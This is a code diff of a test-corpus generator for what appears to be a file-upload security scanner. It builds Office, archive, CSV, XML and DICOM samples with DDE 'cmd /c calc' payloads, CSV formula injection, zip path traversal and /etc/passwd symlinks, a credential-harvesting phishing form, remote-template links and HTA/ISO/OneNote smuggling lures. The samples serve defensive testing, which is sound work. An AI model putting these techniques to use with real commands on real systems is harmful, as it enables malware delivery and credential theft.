-  await add('dicom/polyglot.dcm', dicomPolyglot(), { type: 'dicom', findings: ['DICOM_PREAMBLE_ZEROED'], transform: 'dicom-zero-preamble' });
-  await add('dicom/polyglot.exe', dicomPolyglot(), { type: 'dicom', findings: ['DICOM_PREAMBLE_ZEROED', 'EXTENSION_MISMATCH'], transform: 'dicom-zero-preamble' });
+  await add('dicom/polyglot.dcm', dicomPolyglot(), {
+    type: 'dicom',
+    findings: ['DICOM_PREAMBLE_ZEROED'],
+    transform: 'dicom-zero-preamble',
+  });
+  await add('dicom/polyglot.exe', dicomPolyglot(), {
+    type: 'dicom',
+    findings: ['DICOM_PREAMBLE_ZEROED', 'EXTENSION_MISMATCH'],
+    transform: 'dicom-zero-preamble',
+  });
   await add('dicom/IM0001', dicom(), { type: 'dicom', findings: [], transform: null });
   await add('dicom/1.2.840.113619.2.55.3.320', dicom(), { type: 'dicom', findings: [], transform: null });
-  await add('dicom/vendor.dcm', dicom(Buffer.from('ACME MODALITY PREAMBLE'.padEnd(128, ' '), 'latin1')), { type: 'dicom', findings: ['DICOM_PREAMBLE_ZEROED'], transform: 'dicom-zero-preamble' });
-  await add('dicom/tiff.dcm', dicom(Buffer.concat([Buffer.from('49492a0008000000', 'hex'), Buffer.alloc(120)])), { type: 'dicom', findings: ['DICOM_PREAMBLE_TIFF'], transform: null });
-  await add('dicom/study.zip', await zipOf([{ name: 'IM0001.dcm', data: dicom() }, { name: 'IM0002.dcm', data: dicomPolyglot() }]), { type: 'zip', findings: ['EXECUTABLE'], innerTypes: ['dicom'] });
+  await add('dicom/vendor.dcm', dicom(Buffer.from('ACME MODALITY PREAMBLE'.padEnd(128, ' '), 'latin1')), {
+    type: 'dicom',
+    findings: ['DICOM_PREAMBLE_ZEROED'],
+    transform: 'dicom-zero-preamble',
+  });
+  await add('dicom/tiff.dcm', dicom(Buffer.concat([Buffer.from('49492a0008000000', 'hex'), Buffer.alloc(120)])), {
+    type: 'dicom',
+    findings: ['DICOM_PREAMBLE_TIFF'],
+    transform: null,
+  });
+  await add(
+    'dicom/study.zip',
+    await zipOf([
+      { name: 'IM0001.dcm', data: dicom() },
+      { name: 'IM0002.dcm', data: dicomPolyglot() },
+    ]),
+    { type: 'zip', findings: ['EXECUTABLE'], innerTypes: ['dicom'] },
+  );
 
   // Archives that must be stopped.
   await mkdir(path.join(dir, 'archives'), { recursive: true });
@@ -807,34 +1008,100 @@ export async function writeCorpus(dir: string): Promise<CorpusEntry[]> {
   const level4 = await zipOf([{ name: 'deep.txt', data: CLEAN_TEXT }]);
   const level3 = await zipOf([{ name: 'l4.zip', data: level4 }]);
   const level2 = await zipOf([{ name: 'l3.zip', data: level3 }]);
-  await add('archives/too-deep.zip', await zipOf([{ name: 'l2.zip', data: level2 }]), { type: 'zip', findings: ['ARCHIVE_TOO_DEEP'], innerTypes: ['zip'] });
-  await add('archives/lying-header.zip', handZip([deflatedEntry('small.txt', 'x'.repeat(5000), { declaredSize: 10 })]), { type: 'zip', findings: ['ARCHIVE_CORRUPT'], innerTypes: ['txt'] });
+  await add('archives/too-deep.zip', await zipOf([{ name: 'l2.zip', data: level2 }]), {
+    type: 'zip',
+    findings: ['ARCHIVE_TOO_DEEP'],
+    innerTypes: ['zip'],
+  });
+  await add('archives/lying-header.zip', handZip([deflatedEntry('small.txt', 'x'.repeat(5000), { declaredSize: 10 })]), {
+    type: 'zip',
+    findings: ['ARCHIVE_CORRUPT'],
+    innerTypes: ['txt'],
+  });
   await add(
     'archives/traversal.zip',
-    handZip([storedEntry('../../evil.txt', 'a'), storedEntry('C:\\evil.txt', 'b'), storedEntry('/etc/x', 'c'), storedEntry('ok/fine.txt', 'd')]),
+    handZip([
+      storedEntry('../../evil.txt', 'a'),
+      storedEntry('C:\\evil.txt', 'b'),
+      storedEntry('/etc/x', 'c'),
+      storedEntry('ok/fine.txt', 'd'),
+    ]),
     { type: 'zip', findings: ['ARCHIVE_PATH_TRAVERSAL'], innerTypes: ['txt'] },
   );
-  await add('archives/encrypted.zip', handZip([storedEntry('secret.txt', Buffer.alloc(40, 7), { flags: 0x0801, declaredSize: 28 })]), { type: 'zip', findings: ['ARCHIVE_ENCRYPTED'] });
-  await add('archives/symlink.zip', handZip([storedEntry('link', '/etc/passwd', { externalAttributes: (0o120777 << 16) >>> 0 })]), { type: 'zip', findings: ['ARCHIVE_LINK'] });
-  await add('archives/corrupt.zip', Buffer.concat([Buffer.from('PK\x03\x04', 'latin1'), Buffer.alloc(100, 0x41)]), { type: 'zip', findings: ['ARCHIVE_CORRUPT'] });
-  await add('archives/hidden-exe.zip', await zipOf([{ name: 'docs/readme.txt', data: portableExecutable() }, { name: 'docs/macro.docm', data: docm }]), {
+  await add('archives/encrypted.zip', handZip([storedEntry('secret.txt', Buffer.alloc(40, 7), { flags: 0x0801, declaredSize: 28 })]), {
     type: 'zip',
-    findings: ['EXECUTABLE', 'EXTENSION_MISMATCH', 'OFFICE_MACRO'],
-    innerTypes: ['pe', 'docm'],
+    findings: ['ARCHIVE_ENCRYPTED'],
   });
-  await add('archives/zip64.zip', await zipOf([{ name: 'log.txt', data: CLEAN_TEXT, zip64: true }]), { type: 'zip', findings: [], innerTypes: ['txt'] });
+  await add('archives/symlink.zip', handZip([storedEntry('link', '/etc/passwd', { externalAttributes: (0o120777 << 16) >>> 0 })]), {
+    type: 'zip',
+    findings: ['ARCHIVE_LINK'],
+  });
+  await add('archives/corrupt.zip', Buffer.concat([Buffer.from('PK\x03\x04', 'latin1'), Buffer.alloc(100, 0x41)]), {
+    type: 'zip',
+    findings: ['ARCHIVE_CORRUPT'],
+  });
+  await add(
+    'archives/hidden-exe.zip',
+    await zipOf([
+      { name: 'docs/readme.txt', data: portableExecutable() },
+      { name: 'docs/macro.docm', data: docm },
+    ]),
+    {
+      type: 'zip',
+      findings: ['EXECUTABLE', 'EXTENSION_MISMATCH', 'OFFICE_MACRO'],
+      innerTypes: ['pe', 'docm'],
+    },
+  );
+  await add('archives/zip64.zip', await zipOf([{ name: 'log.txt', data: CLEAN_TEXT, zip64: true }]), {
+    type: 'zip',
+    findings: [],
+    innerTypes: ['txt'],
+  });
   await add('archives/log.txt.gz', zlib.gzipSync(CLEAN_TEXT), { type: 'gz', findings: [], innerTypes: ['txt'] });
 
   // Smuggling: files blocked at the top level must be blocked inside archives too (ISO/OneNote campaigns).
-  const lure = [{ name: 'invoice.hta', data: HTA }, { name: 'readme.js', data: 'var s = new ActiveXObject("WScript.Shell");\ns.Run("calc");\n' }, { name: 'invoice.pdf.lnk', data: shortcut() }];
-  await add('smuggling/iso-in.zip', await zipOf([{ name: 'invoice.iso', data: isoImage(lure) }]), { type: 'zip', findings: ['CONTAINER_NOT_INSPECTABLE'], innerTypes: ['iso'] });
-  const scriptsTar = tarOf([{ name: 'tools/', type: '5' }, { name: 'tools/run.ps1', data: "Write-Host 'x'\n" }, { name: 'tools/update.hta', data: HTA }]);
-  await add('smuggling/tar-in.zip', await zipOf([{ name: 'scripts.tar', data: scriptsTar }]), { type: 'zip', findings: ['HTML_SCRIPT', 'SCRIPT'], innerTypes: ['tar', 'script'] });
-  await add('smuggling/onenote-in.zip', await zipOf([{ name: 'Invoice.one', data: oneNote(HTA) }]), { type: 'zip', findings: ['CONTAINER_NOT_INSPECTABLE'], innerTypes: ['one'] });
-  const phishing = '<!DOCTYPE html><html><body><form action="https://login.example.invalid/collect" method="post"><input name="user"><input name="password" type="password"></form></body></html>';
-  await add('smuggling/phishing-in.zip', await zipOf([{ name: 'Microsoft365-login.html', data: phishing }]), { type: 'zip', findings: [], innerTypes: ['html'] });
-  await add('smuggling/binary-in.zip', await zipOf([{ name: 'update.dat', data: randomBinary() }]), { type: 'zip', findings: [], innerTypes: ['unknown'] });
-  await add('smuggling/vhd-in.tar.gz', zlib.gzipSync(tarOf([{ name: 'disk.vhd', data: vhdDynamic() }])), { type: 'gz', findings: ['CONTAINER_NOT_INSPECTABLE'], innerTypes: ['tar', 'vhd'] });
+  const lure = [
+    { name: 'invoice.hta', data: HTA },
+    { name: 'readme.js', data: 'var s = new ActiveXObject("WScript.Shell");\ns.Run("calc");\n' },
+    { name: 'invoice.pdf.lnk', data: shortcut() },
+  ];
+  await add('smuggling/iso-in.zip', await zipOf([{ name: 'invoice.iso', data: isoImage(lure) }]), {
+    type: 'zip',
+    findings: ['CONTAINER_NOT_INSPECTABLE'],
+    innerTypes: ['iso'],
+  });
+  const scriptsTar = tarOf([
+    { name: 'tools/', type: '5' },
+    { name: 'tools/run.ps1', data: "Write-Host 'x'\n" },
+    { name: 'tools/update.hta', data: HTA },
+  ]);
+  await add('smuggling/tar-in.zip', await zipOf([{ name: 'scripts.tar', data: scriptsTar }]), {
+    type: 'zip',
+    findings: ['HTML_SCRIPT', 'SCRIPT'],
+    innerTypes: ['tar', 'script'],
+  });
+  await add('smuggling/onenote-in.zip', await zipOf([{ name: 'Invoice.one', data: oneNote(HTA) }]), {
+    type: 'zip',
+    findings: ['CONTAINER_NOT_INSPECTABLE'],
+    innerTypes: ['one'],
+  });
+  const phishing =
+    '<!DOCTYPE html><html><body><form action="https://login.example.invalid/collect" method="post"><input name="user"><input name="password" type="password"></form></body></html>';
+  await add('smuggling/phishing-in.zip', await zipOf([{ name: 'Microsoft365-login.html', data: phishing }]), {
+    type: 'zip',
+    findings: [],
+    innerTypes: ['html'],
+  });
+  await add('smuggling/binary-in.zip', await zipOf([{ name: 'update.dat', data: randomBinary() }]), {
+    type: 'zip',
+    findings: [],
+    innerTypes: ['unknown'],
+  });
+  await add('smuggling/vhd-in.tar.gz', zlib.gzipSync(tarOf([{ name: 'disk.vhd', data: vhdDynamic() }])), {
+    type: 'gz',
+    findings: ['CONTAINER_NOT_INSPECTABLE'],
+    innerTypes: ['tar', 'vhd'],
+  });
 
   // Containers recognised by content.
   const containers: [string, Buffer, string][] = [
@@ -853,58 +1120,219 @@ export async function writeCorpus(dir: string): Promise<CorpusEntry[]> {
   ];
   for (const [relativePath, data, type] of containers) await add(relativePath, data, { type, findings: ['CONTAINER_NOT_INSPECTABLE'] });
   await add('containers/scripts.tar', scriptsTar, { type: 'tar', findings: ['HTML_SCRIPT', 'SCRIPT'], innerTypes: ['script'] });
-  await add('containers/logs.tar', tarOf([{ name: 'logs/service.log', data: CLEAN_TEXT }, { name: 'logs/results.csv', data: CLEAN_CSV }]), { type: 'tar', findings: [], innerTypes: ['txt', 'csv'] });
-  await add('containers/link.tar', tarOf([{ name: 'passwd', type: '2', linkname: '/etc/passwd' }]), { type: 'tar', findings: ['ARCHIVE_LINK'] });
-  await add('containers/traversal.tar', tarOf([{ name: '../../evil.txt', data: 'x' }]), { type: 'tar', findings: ['ARCHIVE_PATH_TRAVERSAL'], innerTypes: ['txt'] });
-  await add('containers/logs.tar.gz', zlib.gzipSync(tarOf([{ name: 'service.log', data: CLEAN_TEXT }])), { type: 'gz', findings: [], innerTypes: ['tar', 'txt'] });
+  await add(
+    'containers/logs.tar',
+    tarOf([
+      { name: 'logs/service.log', data: CLEAN_TEXT },
+      { name: 'logs/results.csv', data: CLEAN_CSV },
+    ]),
+    { type: 'tar', findings: [], innerTypes: ['txt', 'csv'] },
+  );
+  await add('containers/link.tar', tarOf([{ name: 'passwd', type: '2', linkname: '/etc/passwd' }]), {
+    type: 'tar',
+    findings: ['ARCHIVE_LINK'],
+  });
+  await add('containers/traversal.tar', tarOf([{ name: '../../evil.txt', data: 'x' }]), {
+    type: 'tar',
+    findings: ['ARCHIVE_PATH_TRAVERSAL'],
+    innerTypes: ['txt'],
+  });
+  await add('containers/logs.tar.gz', zlib.gzipSync(tarOf([{ name: 'service.log', data: CLEAN_TEXT }])), {
+    type: 'gz',
+    findings: [],
+    innerTypes: ['tar', 'txt'],
+  });
 
   // Office active content that no part name gives away.
   const rels = (part: string, relationships: Parameters<typeof relsPart>[0]) => ({ name: part, data: relsPart(relationships) });
-  await add('office/package-in-media.docx', await ooxml('docx', [{ name: 'word/media/image1.png', data: olePackage('invoice.hta', HTA) }]), { type: 'docx', findings: ['OFFICE_EMBEDDED_OBJECT'] });
-  await add('office/package-custom-part.xlsx', await ooxml('xlsx', [{ name: 'customXml/item9.dat', data: olePackage('run.js', 'WScript.Echo(1);') }]), { type: 'xlsx', findings: ['OFFICE_EMBEDDED_OBJECT'] });
-  await add('office/external-ole.docx', await ooxml('docx', [rels('word/_rels/document.xml.rels', [{ id: 'rId9', type: 'oleObject', target: 'http://203.0.113.7/template.rtf', external: true }])]), { type: 'docx', findings: ['OFFICE_EXTERNAL_OBJECT'] });
-  await add('office/remote-template.docx', await ooxml('docx', [rels('word/_rels/settings.xml.rels', [{ id: 'rId1', type: 'attachedTemplate', target: 'https://templates.example.invalid/normal.dotm', external: true }])]), { type: 'docx', findings: ['OFFICE_REMOTE_TEMPLATE'] });
-  await add('office/altchunk.docx', await ooxml('docx', [rels('word/_rels/document.xml.rels', [{ id: 'rId5', type: 'aFChunk', target: 'afchunk.mht' }]), { name: 'word/afchunk.mht', data: '<html><body><script>alert(1)</script></body></html>' }]), { type: 'docx', findings: ['OFFICE_ALTCHUNK'] });
-  const slide = '<?xml version="1.0"?><p:sld xmlns:p="urn:p" xmlns:a="urn:a" xmlns:r="urn:r"><p:cSld><p:spTree><p:sp><p:nvSpPr><p:cNvPr id="2" name="Play"><a:hlinkClick r:id="rId2" action="ppaction://program"/></p:cNvPr></p:nvSpPr></p:sp></p:spTree></p:cSld></p:sld>';
-  await add('office/ppaction.pptx', await ooxml('pptx', [{ name: 'ppt/slides/slide1.xml', data: slide }, rels('ppt/slides/_rels/slide1.xml.rels', [{ id: 'rId2', type: 'hyperlink', target: 'file:///C:/Windows/System32/calc.exe', external: true }])]), { type: 'pptx', findings: ['OFFICE_DANGEROUS_LINK'] });
-  await add('office/unc-link.docx', await ooxml('docx', [rels('word/_rels/document.xml.rels', [{ id: 'rId3', type: 'hyperlink', target: '\\\\files.example.invalid\\share\\report.exe', external: true }])]), { type: 'docx', findings: ['OFFICE_DANGEROUS_LINK'] });
-  await add('office/web-link.docx', await ooxml('docx', [rels('word/_rels/document.xml.rels', [{ id: 'rId3', type: 'hyperlink', target: 'https://www.example.com/manual?a=1&amp;b=2', external: true }])]), { type: 'docx', findings: [] });
-  const wordBody = (runs: string) => `<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p>${runs}</w:p></w:body></w:document>`;
-  const splitDde = '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> DD</w:instrText></w:r><w:r><w:instrText>EAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>';
-  await add('office/dde.docx', await ooxml('docx', [{ name: 'word/document.xml', data: wordBody(splitDde) }]), { type: 'docx', findings: ['OFFICE_DDE'] });
-  await add('office/dde-simple.docx', await ooxml('docx', [{ name: 'word/document.xml', data: wordBody('<w:fldSimple w:instr=" DDE cmd.exe &quot;/c calc&quot; x"><w:r><w:t>1</w:t></w:r></w:fldSimple>') }]), { type: 'docx', findings: ['OFFICE_DDE'] });
-  await add('office/field.docx', await ooxml('docx', [{ name: 'word/document.xml', data: wordBody('<w:r><w:instrText> PAGE \\* MERGEFORMAT </w:instrText></w:r>') }]), { type: 'docx', findings: [] });
-  await add('office/ddelink.xlsx', await ooxml('xlsx', [{ name: 'xl/externalLinks/externalLink1.xml', data: '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic="/c calc"><ddeItems><ddeItem name="A0" advise="1"/></ddeItems></ddeLink></externalLink>' }]), { type: 'xlsx', findings: ['OFFICE_DDE'] });
-  await add('office/dde-formula.xlsx', await ooxml('xlsx', [{ name: 'xl/worksheets/sheet1.xml', data: "<worksheet><sheetData><row r=\"1\"><c r=\"A1\"><f>cmd|' /C calc'!A0</f></c></row></sheetData></worksheet>" }]), { type: 'xlsx', findings: ['OFFICE_DDE'] });
+  await add(
+    'office/package-in-media.docx',
+    await ooxml('docx', [{ name: 'word/media/image1.png', data: olePackage('invoice.hta', HTA) }]),
+    { type: 'docx', findings: ['OFFICE_EMBEDDED_OBJECT'] },
+  );
+  await add(
+    'office/package-custom-part.xlsx',
+    await ooxml('xlsx', [{ name: 'customXml/item9.dat', data: olePackage('run.js', 'WScript.Echo(1);') }]),
+    { type: 'xlsx', findings: ['OFFICE_EMBEDDED_OBJECT'] },
+  );
+  await add(
+    'office/external-ole.docx',
+    await ooxml('docx', [
+      rels('word/_rels/document.xml.rels', [{ id: 'rId9', type: 'oleObject', target: 'http://203.0.113.7/template.rtf', external: true }]),
+    ]),
+    { type: 'docx', findings: ['OFFICE_EXTERNAL_OBJECT'] },
+  );
+  await add(
+    'office/remote-template.docx',
+    await ooxml('docx', [
+      rels('word/_rels/settings.xml.rels', [
+        { id: 'rId1', type: 'attachedTemplate', target: 'https://templates.example.invalid/normal.dotm', external: true },
+      ]),
+    ]),
+    { type: 'docx', findings: ['OFFICE_REMOTE_TEMPLATE'] },
+  );
+  await add(
+    'office/altchunk.docx',
+    await ooxml('docx', [
+      rels('word/_rels/document.xml.rels', [{ id: 'rId5', type: 'aFChunk', target: 'afchunk.mht' }]),
+      { name: 'word/afchunk.mht', data: '<html><body><script>alert(1)</script></body></html>' },
+    ]),
+    { type: 'docx', findings: ['OFFICE_ALTCHUNK'] },
+  );
+  const slide =
+    '<?xml version="1.0"?><p:sld xmlns:p="urn:p" xmlns:a="urn:a" xmlns:r="urn:r"><p:cSld><p:spTree><p:sp><p:nvSpPr><p:cNvPr id="2" name="Play"><a:hlinkClick r:id="rId2" action="ppaction://program"/></p:cNvPr></p:nvSpPr></p:sp></p:spTree></p:cSld></p:sld>';
+  await add(
+    'office/ppaction.pptx',
+    await ooxml('pptx', [
+      { name: 'ppt/slides/slide1.xml', data: slide },
+      rels('ppt/slides/_rels/slide1.xml.rels', [
+        { id: 'rId2', type: 'hyperlink', target: 'file:///C:/Windows/System32/calc.exe', external: true },
+      ]),
+    ]),
+    { type: 'pptx', findings: ['OFFICE_DANGEROUS_LINK'] },
+  );
+  await add(
+    'office/unc-link.docx',
+    await ooxml('docx', [
+      rels('word/_rels/document.xml.rels', [
+        { id: 'rId3', type: 'hyperlink', target: '\\\\files.example.invalid\\share\\report.exe', external: true },
+      ]),
+    ]),
+    { type: 'docx', findings: ['OFFICE_DANGEROUS_LINK'] },
+  );
+  await add(
+    'office/web-link.docx',
+    await ooxml('docx', [
+      rels('word/_rels/document.xml.rels', [
+        { id: 'rId3', type: 'hyperlink', target: 'https://www.example.com/manual?a=1&amp;b=2', external: true },
+      ]),
+    ]),
+    { type: 'docx', findings: [] },
+  );
+  const wordBody = (runs: string) =>
+    `<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p>${runs}</w:p></w:body></w:document>`;
+  const splitDde =
+    '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> DD</w:instrText></w:r><w:r><w:instrText>EAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>';
+  await add('office/dde.docx', await ooxml('docx', [{ name: 'word/document.xml', data: wordBody(splitDde) }]), {
+    type: 'docx',
+    findings: ['OFFICE_DDE'],
+  });
+  await add(
+    'office/dde-simple.docx',
+    await ooxml('docx', [
+      {
+        name: 'word/document.xml',
+        data: wordBody('<w:fldSimple w:instr=" DDE cmd.exe &quot;/c calc&quot; x"><w:r><w:t>1</w:t></w:r></w:fldSimple>'),
+      },
+    ]),
+    { type: 'docx', findings: ['OFFICE_DDE'] },
+  );
+  await add(
+    'office/field.docx',
+    await ooxml('docx', [{ name: 'word/document.xml', data: wordBody('<w:r><w:instrText> PAGE \\* MERGEFORMAT </w:instrText></w:r>') }]),
+    { type: 'docx', findings: [] },
+  );
+  await add(
+    'office/ddelink.xlsx',
+    await ooxml('xlsx', [
+      {
+        name: 'xl/externalLinks/externalLink1.xml',
+        data: '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic="/c calc"><ddeItems><ddeItem name="A0" advise="1"/></ddeItems></ddeLink></externalLink>',
+      },
+    ]),
+    { type: 'xlsx', findings: ['OFFICE_DDE'] },
+  );
+  await add(
+    'office/dde-formula.xlsx',
+    await ooxml('xlsx', [
+      {
+        name: 'xl/worksheets/sheet1.xml',
+        data: '<worksheet><sheetData><row r="1"><c r="A1"><f>cmd|\' /C calc\'!A0</f></c></row></sheetData></worksheet>',
+      },
+    ]),
+    { type: 'xlsx', findings: ['OFFICE_DDE'] },
+  );
   await add('office/macro.ppt', powerPointWithMacros(true), { type: 'ppt', findings: ['OFFICE_MACRO'] });
   await add('office/clean.ppt', powerPointWithMacros(false), { type: 'ppt', findings: [] });
-  await add('office/object.ppt', powerPointWithObject(olePackage('invoice.hta', HTA)), { type: 'ppt', findings: ['OFFICE_EMBEDDED_OBJECT'] });
+  await add('office/object.ppt', powerPointWithObject(olePackage('invoice.hta', HTA)), {
+    type: 'ppt',
+    findings: ['OFFICE_EMBEDDED_OBJECT'],
+  });
   await add('office/run-program.ppt', powerPointRunProgram(), { type: 'ppt', findings: ['OFFICE_DANGEROUS_LINK'] });
-  await add('office/file-link.ppt', powerPointHyperlink('file:///C:/Windows/System32/calc.exe'), { type: 'ppt', findings: ['OFFICE_DANGEROUS_LINK'] });
+  await add('office/file-link.ppt', powerPointHyperlink('file:///C:/Windows/System32/calc.exe'), {
+    type: 'ppt',
+    findings: ['OFFICE_DANGEROUS_LINK'],
+  });
   await add('office/web-link.ppt', powerPointHyperlink('https://www.example.com/manual'), { type: 'ppt', findings: [] });
-  await add('office/dde.doc', wordWithField('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"'), { type: 'doc', findings: ['OFFICE_DDE'] });
+  await add('office/dde.doc', wordWithField('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"'), {
+    type: 'doc',
+    findings: ['OFFICE_DDE'],
+  });
   await add('office/page-field.doc', wordWithField('PAGE'), { type: 'doc', findings: [] });
-  await add('office/remote-template.doc', wordWithTemplate('\\\\203.0.113.9\\share\\Normal.dotm'), { type: 'doc', findings: ['OFFICE_REMOTE_TEMPLATE'] });
-  await add('office/local-template.doc', wordWithTemplate('C:\\Users\\x\\AppData\\Roaming\\Microsoft\\Templates\\Normal.dotm'), { type: 'doc', findings: [] });
-  await add('office/dde-link.xls', compoundFile({ '/Workbook': biffGlobals([[0x01ae, supBook(0, 'cmd\u0003/c calc')]]) }), { type: 'xls', findings: ['OFFICE_DDE'] });
-  await add('office/external-workbook.xls', compoundFile({ '/Workbook': biffGlobals([[0x01ae, supBook(1, '\u0001\\\\server\\share\\budget.xls')]]) }), { type: 'xls', findings: ['OFFICE_EXTERNAL_RELATIONSHIP'] });
-  await add('office/self-reference.xls', compoundFile({ '/Workbook': biffGlobals([[0x01ae, Buffer.from('01000104', 'hex')]]) }), { type: 'xls', findings: [] });
+  await add('office/remote-template.doc', wordWithTemplate('\\\\203.0.113.9\\share\\Normal.dotm'), {
+    type: 'doc',
+    findings: ['OFFICE_REMOTE_TEMPLATE'],
+  });
+  await add('office/local-template.doc', wordWithTemplate('C:\\Users\\x\\AppData\\Roaming\\Microsoft\\Templates\\Normal.dotm'), {
+    type: 'doc',
+    findings: [],
+  });
+  await add('office/dde-link.xls', compoundFile({ '/Workbook': biffGlobals([[0x01ae, supBook(0, 'cmd\u0003/c calc')]]) }), {
+    type: 'xls',
+    findings: ['OFFICE_DDE'],
+  });
+  await add(
+    'office/external-workbook.xls',
+    compoundFile({ '/Workbook': biffGlobals([[0x01ae, supBook(1, '\u0001\\\\server\\share\\budget.xls')]]) }),
+    { type: 'xls', findings: ['OFFICE_EXTERNAL_RELATIONSHIP'] },
+  );
+  await add('office/self-reference.xls', compoundFile({ '/Workbook': biffGlobals([[0x01ae, Buffer.from('01000104', 'hex')]]) }), {
+    type: 'xls',
+    findings: [],
+  });
 
   // Text that is more than text.
-  const rtfObject = '{\\rtf1\\ansi\\deff0{\\object\\objemb{\\*\\objclass Package}\\objw100\\objh100{\\*\\objdata 0105000002000000080000005061636b61676500}}}';
+  const rtfObject =
+    '{\\rtf1\\ansi\\deff0{\\object\\objemb{\\*\\objclass Package}\\objw100\\objh100{\\*\\objdata 0105000002000000080000005061636b61676500}}}';
   await add('text/embedded-object.txt', rtfObject, { type: 'rtf', findings: ['EXTENSION_MISMATCH', 'RTF_EMBEDDED_OBJECT'] });
   await add('text/report.rtf', '{\\rtf1\\ansi Service report\\par All checks passed.\\par}', { type: 'rtf', findings: [] });
-  await add('text/xhtml-script.xml', '<?xml version="1.0"?>\n<report xmlns:h="http://www.w3.org/1999/xhtml"><h:script>alert(1)</h:script></report>\n', { type: 'xml', findings: ['XML_SCRIPT'] });
-  await add('text/remote-stylesheet.xml', '<?xml version="1.0"?>\n<?xml-stylesheet type="text/xsl" href="https://xsl.example.invalid/report.xsl"?>\n<report><result>ok</result></report>\n', { type: 'xml', findings: ['XML_REMOTE_STYLESHEET'] });
-  await add('text/local-stylesheet.xml', '<?xml version="1.0"?>\n<?xml-stylesheet type="text/xsl" href="report.xsl"?>\n<report><result>ok</result></report>\n', { type: 'xml', findings: [] });
+  await add(
+    'text/xhtml-script.xml',
+    '<?xml version="1.0"?>\n<report xmlns:h="http://www.w3.org/1999/xhtml"><h:script>alert(1)</h:script></report>\n',
+    { type: 'xml', findings: ['XML_SCRIPT'] },
+  );
+  await add(
+    'text/remote-stylesheet.xml',
+    '<?xml version="1.0"?>\n<?xml-stylesheet type="text/xsl" href="https://xsl.example.invalid/report.xsl"?>\n<report><result>ok</result></report>\n',
+    { type: 'xml', findings: ['XML_REMOTE_STYLESHEET'] },
+  );
+  await add(
+    'text/local-stylesheet.xml',
+    '<?xml version="1.0"?>\n<?xml-stylesheet type="text/xsl" href="report.xsl"?>\n<report><result>ok</result></report>\n',
+    { type: 'xml', findings: [] },
+  );
   await add('text/formula.csv', "device,result\nCT-7,=cmd|' /C calc'!A0\nMR-3,ok\n", { type: 'csv', findings: ['CSV_FORMULA'] });
-  await add('text/at-formula.csv', 'device;note\nCT-7;"\t@SUM(1+1)*cmd|\'/C calc\'!A0"\nMR-3;ok\n', { type: 'csv', findings: ['CSV_FORMULA'] });
+  await add('text/at-formula.csv', 'device;note\nCT-7;"\t@SUM(1+1)*cmd|\'/C calc\'!A0"\nMR-3;ok\n', {
+    type: 'csv',
+    findings: ['CSV_FORMULA'],
+  });
   await add('text/signed-numbers.csv', 'date,delta,phone\n2024-01-01,-5,+81-3-1234-5678\n2024-01-02,+3,-\n', { type: 'csv', findings: [] });
 
   // DICOM: what the data set carries and what follows it.
-  await add('dicom/encapsulated-pdf.dcm', dicomEncapsulatedPdf(PDFS['object-stream.pdf']!.bytes()), { type: 'dicom', findings: ['PDF_AUTO_ACTION', 'PDF_JAVASCRIPT'], innerTypes: ['pdf'] });
-  await add('dicom/encapsulated-clean.dcm', dicomEncapsulatedPdf(PDFS['clean.pdf']!.bytes()), { type: 'dicom', findings: [], innerTypes: ['pdf'] });
-  await add('dicom/trailing-zip.dcm', Buffer.concat([dicom(), await zipOf([{ name: 'run.js', data: 'WScript.Echo(1);' }])]), { type: 'dicom', findings: ['DICOM_TRAILING_DATA'] });
+  await add('dicom/encapsulated-pdf.dcm', dicomEncapsulatedPdf(PDFS['object-stream.pdf']!.bytes()), {
+    type: 'dicom',
+    findings: ['PDF_AUTO_ACTION', 'PDF_JAVASCRIPT'],
+    innerTypes: ['pdf'],
+  });
+  await add('dicom/encapsulated-clean.dcm', dicomEncapsulatedPdf(PDFS['clean.pdf']!.bytes()), {
+    type: 'dicom',
+    findings: [],
+    innerTypes: ['pdf'],
+  });
+  await add('dicom/trailing-zip.dcm', Buffer.concat([dicom(), await zipOf([{ name: 'run.js', data: 'WScript.Echo(1);' }])]), {
+    type: 'dicom',
+    findings: ['DICOM_TRAILING_DATA'],
+  });
 
   // The clean set of every allowed type.
   const clean: [string, Buffer | string, string][] = [
